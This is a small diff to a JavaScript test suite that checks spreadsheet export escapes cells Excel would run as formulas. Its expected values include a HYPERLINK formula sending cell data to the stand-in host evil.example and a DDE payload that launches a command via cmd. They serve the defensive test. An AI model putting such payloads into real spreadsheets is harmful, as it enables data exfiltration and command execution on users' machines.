@@ -135,6 +135,7 @@ describe('cells Excel would run as formulas', () => {
       `'=HYPERLINK("http://evil.example/?d="&A1;"klik") @1, 9000 Gent`,
       `'=cmd|' /C calc'!A1`,
       '',
+      '',
     ]);
     expect(secondReport.slice(1).map((r) => [r[0], r[2], r[11]])).toEqual([
       ['1', "'-R2", '2'],
